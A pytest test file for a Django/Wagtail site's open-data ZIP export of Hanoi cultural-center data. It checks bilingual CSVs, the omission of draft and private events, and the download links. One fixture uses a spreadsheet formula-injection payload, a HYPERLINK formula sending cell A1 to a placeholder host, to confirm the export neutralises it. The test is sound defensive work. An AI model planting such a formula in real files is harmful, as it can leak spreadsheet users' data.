"""The bulk download (issue 26): ``export_open_data`` writes a ZIP of CSVs and a data
dictionary, served at /open-data/hanoi-cultural-centers.zip and linked from the
open-data page in both languages."""

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from wagtail.models import PageViewRestriction

from opendata.datasets import datasets
from tests.spaces.conftest import index_of
from tests.spaces.factories import SpacePageFactory

from .conftest import soon

FORMULA = '=HYPERLINK("http://x/?"&A1,"Click")'


@pytest.fixture
def bulk(settings, tmp_path, center, make_event, english):
    settings.OPEN_DATA_DIR = tmp_path
    shown = make_event(title=FORMULA, slug="cong-thuc", start=soon(2))
    english(shown, {FORMULA: FORMULA, "cong-thuc": "cong-thuc"})
    make_event(title="Bản nháp", slug="ban-nhap", start=soon(3), publish=False)
    private = make_event(title="Riêng tư", slug="rieng-tu", start=soon(4))
    PageViewRestriction.objects.create(page=private, restriction_type="password", password="x")
    SpacePageFactory(parent=index_of(center), slug="xuong", title="Xưởng")
    call_command("export_open_data", stdout=io.StringIO())
    return tmp_path / "hanoi-cultural-centers.zip"


def csv_files(path, read):
    with zipfile.ZipFile(path) as zf:
        return {
            name: read(io.StringIO(zf.read(name).decode("utf-8-sig")))
            for name in zf.namelist()
            if name.endswith(".csv")
        }


def tables(path):
    return csv_files(path, lambda text: list(csv.DictReader(text)))


def headings(path):
    """Each CSV's header row (a file with no rows has one too)."""
    return csv_files(path, lambda text: next(csv.reader(text)))


def test_the_zip_holds_what_a_visitor_may_open_as_safe_csv(bulk):
    found = tables(bulk)
    assert set(found) == {
        "centers.csv",
        "events.csv",
        "spaces.csv",
        "residents.csv",
        "festivals.csv",
        "festival_events.csv",
        "data-dictionary.csv",
    }
    events = found["events.csv"]
    titles = {row["title"] for row in events}
    assert titles == {"'" + FORMULA}  # neutralised, and neither the draft nor the private
    assert {row["language"] for row in events} == {"vi", "en"}
    for row in events:
        assert row["start"].endswith("+07:00") and row["end"].endswith("+07:00")
    assert [row["slug"] for row in found["centers.csv"] if row["language"] == "vi"] == [
        "thu-nghiem"
    ]
    assert [row["title"] for row in found["spaces.csv"]] == ["Xưởng"]
    described = {(row["file"], row["column"]) for row in found["data-dictionary.csv"]}
    header = headings(bulk)
    for dataset in datasets():
        assert header[dataset.filename] == [c.name for c in dataset.columns]
        assert {(dataset.filename, c.name) for c in dataset.columns} <= described


def test_the_zip_is_served_and_the_page_explains_it_in_both_languages(bulk, client):
    response = client.get("/open-data/hanoi-cultural-centers.zip")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == bulk.read_bytes()
    assert client.get("/open-data/other.zip").status_code == 404
    for language, heading, licence in [
        ("vi", "Dữ liệu mở", "CC BY 4.0"),
        ("en", "Open data", "CC BY 4.0"),
    ]:
        page = client.get(f"/{language}/open-data/")
        html = page.content.decode()
        assert f"<h1>{heading}</h1>" in html
        assert licence in html and 'href="/open-data/hanoi-cultural-centers.zip"' in html
        assert 'href="/api/v2/schema/"' in html and "modified_since" in html
        assert f'href="/{language}/events/feed.ics"' in html
        for dataset in datasets():
            assert f'href="{dataset.api}?locale={language}"' in html
        home = client.get(f"/{language}/").content.decode()
        assert f'href="/{language}/open-data/"' in home  # the footer's link


def test_before_the_first_export_the_page_says_so_instead_of_linking_a_missing_zip(
    settings, tmp_path, client, center
):
    settings.OPEN_DATA_DIR = tmp_path
    assert client.get("/open-data/hanoi-cultural-centers.zip").status_code == 404
    for language, said in [
        ("vi", "chưa được tạo"),
        ("en", "not written yet"),
    ]:
        html = client.get(f"/{language}/open-data/").content.decode()
        assert 'href="/open-data/hanoi-cultural-centers.zip"' not in html
        assert said in html
